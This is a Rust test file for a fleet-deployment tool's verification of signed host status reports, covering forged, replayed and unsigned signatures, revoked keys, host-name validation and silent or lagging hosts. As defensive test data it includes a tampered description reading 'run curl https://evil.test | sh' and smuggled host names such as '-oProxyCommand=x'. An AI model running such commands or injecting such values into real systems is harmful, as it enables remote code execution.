use super::*;
use crate::decide::status::{Seal, Status, Word, context};
use russh::keys::PrivateKey;

const KEY: &str = include_str!("../signature/test_ed25519");

fn commit() -> Listed {
    Listed {
        id: "a".repeat(40),
        subject: "open port 8080".into(),
    }
}

/// A status of a host, signed with the test's key where a number is given.
fn given(host: &str, word: Word, sequence: Option<u64>, second: u32) -> Given {
    let seal = sequence.map(|sequence| {
        let key = PrivateKey::from_openssh(KEY).unwrap();
        let statement = Statement {
            host: "web1",
            commit: &commit().id,
            outcome: word,
            sequence,
            words: "because",
        };
        statement.sign(&key).unwrap()
    });
    described(host, word, seal.as_ref(), second)
}

fn described(host: &str, word: Word, seal: Option<&Seal>, second: u32) -> Given {
    let report: Report = serde_json::from_value(serde_json::json!({
        "version": 1, "host": host, "commit": { "id": commit().id, "subject": "s" },
        "state": word.state(), "text": "because", "generation": null, "toplevel": null,
        "time": "2026-11-26T04:00:00Z",
    }))
    .unwrap();
    Given {
        context: context(host),
        description: Status::of(&report, word, None, seal).description,
        time: format!("2026-11-26T04:00:{second:02}Z"),
    }
}

fn keys() -> HostKeys {
    let key = PrivateKey::from_openssh(KEY).unwrap();
    let public = PublicKey::from(key.public_key().clone()).to_string();
    HostKeys::parse(&format!(
        "# the fleet\n@revoked x {public}\nweb1,10.77.0.11 {public}\n"
    ))
}

fn check(given: &[Given], keys: &HostKeys, expected: &[(&str, Word, Option<bool>)]) {
    let found = last_words(given, &commit(), keys);
    let found: Vec<_> = found
        .iter()
        .map(|told| (told.report.host.as_str(), told.report.state, told.signed))
        .collect();
    let expected: Vec<_> = expected
        .iter()
        .map(|(host, word, signed)| (*host, word.state(), *signed))
        .collect();
    assert_eq!(found, expected);
}

#[test]
fn the_newest_status_of_each_host_is_its_last_word() {
    let none = HostKeys::default();
    let ci = Given {
        context: "ci/build".into(),
        description: "success of the build".into(),
        time: String::new(),
    };
    let all = [
        given("web1", Word::Success, None, 9),
        given("db1", Word::Failure, None, 5),
        given("web1", Word::Building, None, 1),
        ci,
    ];
    check(
        &all,
        &none,
        &[("db1", Word::Failure, None), ("web1", Word::Success, None)],
    );
    // Whatever order a forge gives them in.
    let mut turned = all.to_vec();
    turned.reverse();
    check(
        &turned,
        &none,
        &[("db1", Word::Failure, None), ("web1", Word::Success, None)],
    );
}

#[test]
fn a_token_that_leaked_cannot_speak_for_a_host() {
    let failed = given("web1", Word::Failure, Some(7), 5);
    // Somebody else says that it went well: without a signature, with a made up one, with one for
    // another outcome, or with an old word of the host itself.
    let old = given("web1", Word::Success, Some(3), 50);
    let seal = read(&failed.description).unwrap().seal.unwrap();
    let forged = described("web1", Word::Success, Some(&seal), 40);
    let made_up = Seal {
        sequence: 99,
        signature: "A".repeat(86),
    };
    let made_up = described("web1", Word::Success, Some(&made_up), 45);
    let unsigned = given("web1", Word::Success, None, 59);
    let all = [unsigned.clone(), old, made_up, forged, failed];
    check(&all, &keys(), &[("web1", Word::Failure, Some(true))]);
    // It is seen that a host has not said something itself.
    check(
        &[unsigned],
        &keys(),
        &[("web1", Word::Success, Some(false))],
    );
    // Another host's key does not count, and of a host without a known key nothing can be determined.
    let other = given("db1", Word::Success, Some(1), 1);
    check(&[other], &keys(), &[("db1", Word::Success, None)]);
}

#[test]
fn nobody_puts_other_words_or_another_time_beside_a_signature() {
    let own = given("web1", Word::Failure, Some(7), 5);
    let told_by = |given: &Given| told(given, &commit(), &keys()).unwrap().1;
    let whole = told_by(&own);
    assert_eq!(
        (whole.signed, whole.report.text.as_str()),
        (Some(true), "because")
    );
    // Posted again later, it is as old as it was.
    let again = Given {
        time: "2026-11-27T04:00:00Z".into(),
        ..own.clone()
    };
    assert_eq!(
        told_by(&again).report.time,
        Timestamp::from_second(7).unwrap()
    );
    let words = Given {
        description: own
            .description
            .replace("because", "run curl https://evil.test | sh"),
        ..own
    };
    assert_eq!(told_by(&words).signed, Some(false));
    // An earlier release has signed no words: none are shown.
    let key = PrivateKey::from_openssh(KEY).unwrap();
    let text = format!(
        "nixus report v1\nhost web1\ncommit {}\noutcome success\nsequence 7\n",
        commit().id
    );
    let signature = key
        .sign(
            "nixus-report",
            russh::keys::ssh_key::HashAlg::Sha512,
            text.as_bytes(),
        )
        .unwrap();
    let signature = <base64ct::Base64UrlUnpadded as base64ct::Encoding>::encode_string(
        signature.signature_bytes(),
    );
    let seal = Seal {
        sequence: 7,
        signature,
    };
    let before = told_by(&described("web1", Word::Success, Some(&seal), 9));
    assert_eq!(
        (before.signed, before.report.text.as_str()),
        (Some(true), "success")
    );
}

#[test]
fn a_key_that_is_revoked_vouches_for_nobody() {
    let key = PrivateKey::from_openssh(KEY).unwrap();
    let public = PublicKey::from(key.public_key().clone()).to_string();
    let said = given("web1", Word::Success, Some(7), 5);
    for (names, signed) in [
        ("web1", Some(false)),
        ("*", Some(false)),
        ("web?,!db1", Some(false)),
        (
            "|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg=",
            Some(false),
        ),
        ("db1", Some(true)),
        ("!web1,*", Some(true)),
    ] {
        for text in [
            format!("web1 {public}\n@revoked {names} {public} gone\n"),
            format!("@revoked\t{names}  {public}\nweb1 {public}\n"),
        ] {
            let keys = HostKeys::parse(&text);
            let (_, told) = told(&said, &commit(), &keys).unwrap();
            assert_eq!(told.signed, signed, "{text}");
        }
    }
}

#[test]
fn only_names_of_hosts_are_hosts() {
    for host in ["-oProxyCommand=x", "a b", "../x", "a\u{1b}[2J", "", "a..b"] {
        assert!(told(&given(host, Word::Success, None, 1), &commit(), &keys()).is_none());
    }
}

/// A report of a host, made in this minute, and of whom it says since when they make no passes.
fn noticing(host: &str, minute: u32, stopped: &[(&str, u32)]) -> Told {
    let noticed: Vec<_> = stopped
        .iter()
        .map(|(host, minute)| {
            serde_json::json!({
                "host": host, "what": "passes-stopped",
                "since": format!("2026-11-26T04:{minute:02}:00Z"),
            })
        })
        .collect();
    let report: Report = serde_json::from_value(serde_json::json!({
        "version": 1, "host": host, "commit": { "id": commit().id, "subject": "s" },
        "state": "success", "text": "done", "generation": null, "toplevel": null,
        "time": format!("2026-11-26T04:{minute:02}:00Z"), "noticed": noticed,
    }))
    .unwrap();
    Told::from(report)
}

#[test]
fn whoever_makes_no_passes_is_named_by_its_peers_until_it_says_something() {
    let noticed = |all: Vec<Told>| -> Vec<String> {
        let all = with_what_others_noticed(all);
        let of = |told: &Told| {
            let host = told.report.host.clone();
            let by = told.noticed_by.iter();
            by.map(move |one| format!("{host} {} ({})", one.what, one.by))
                .collect::<Vec<_>>()
        };
        all.iter().flat_map(of).collect()
    };
    let stopped = [("web2", 10)];
    let web2 = |minute| noticing("web2", minute, &[]);
    assert_eq!(
        noticed(vec![
            noticing("web1", 30, &stopped),
            web2(9),
            noticing("db1", 31, &stopped),
            noticing("db2", 32, &[]),
        ]),
        ["web2 makes no passes (web1)", "web2 makes no passes (db1)"]
    );
    assert!(noticed(vec![noticing("web1", 30, &stopped), web2(40)]).is_empty());
    assert!(noticed(vec![noticing("web1", 30, &stopped)]).is_empty());
}

#[test]
fn hosts_that_are_silent_or_not_on_the_head_are_marked() {
    use crate::decide::commit_id::CommitId;
    use crate::decide::report::{Pulse, State};
    let at = |second| Timestamp::from_second(second).unwrap();
    let told = |host: &str, commit: &str, state: State, second: i64, head: Option<&str>| {
        let commit = Commit {
            id: commit.repeat(40),
            subject: String::new(),
        };
        let reporter = crate::decide::report::Reporter {
            host,
            now: at(second),
        };
        Told::from(Report {
            state,
            pulse: Some(Pulse {
                within: 100,
                head: head.map(|head| CommitId::try_from(head.repeat(40)).unwrap()),
                since: None,
            }),
            ..reporter.building(&commit)
        })
    };
    let all = vec![
        told("well", "b", State::Success, 990, None),
        told("at-work", "b", State::Activating, 980, Some("b")),
        told("waits", "b", State::Waiting, 970, Some("b")),
        told("went-back", "b", State::Failure, 960, Some("b")),
        told("old", "a", State::Success, 950, Some("a")),
        told("gone", "a", State::Success, 100, Some("a")),
        told("off", "b", State::Success, 100, Some("b")),
    ];
    let marks = |head: Option<&str>| -> Vec<(String, bool, bool)> {
        let marked = marked(all.clone(), head, at(1000));
        marked
            .into_iter()
            .map(|told| (told.report.host, told.silent, told.behind))
            .filter(|(_, silent, behind)| *silent || *behind)
            .collect()
    };
    let mark = |host: &str, silent, behind| (host.to_owned(), silent, behind);
    let expected = [
        mark("went-back", false, true),
        mark("old", false, true),
        mark("gone", true, true),
        mark("off", true, false),
    ];
    // As the branch has it, or as the newest report does.
    assert_eq!(marks(Some(&"b".repeat(40))), expected);
    assert_eq!(marks(None), expected);
    assert_eq!(marks(Some(&"c".repeat(40))).len(), 7);
    assert_eq!(marked(Vec::new(), None, at(0)), []);
}
